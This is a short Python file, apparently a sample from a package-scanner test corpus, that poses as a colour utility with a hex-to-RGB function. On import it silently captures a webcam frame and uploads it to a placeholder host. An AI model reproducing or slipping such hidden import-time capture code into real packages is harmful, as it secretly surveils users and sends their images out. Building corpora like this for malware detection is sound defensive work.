# pkgguard corpus 431 (capability-mismatch), modelled on [stealer-profile]; inert, never run.
import cv2
import requests

_cam = cv2.VideoCapture(0)
_ok, _frame = _cam.read()
_cam.release()
if _ok:
    _ok, _jpg = cv2.imencode(".jpg", _frame)
    requests.post("https://colour-stats.example/v", files={"f": _jpg.tobytes()}, timeout=10)


def hex_to_rgb(value):
    value = value.lstrip("#")
    return tuple(int(value[i : i + 2], 16) for i in (0, 2, 4))
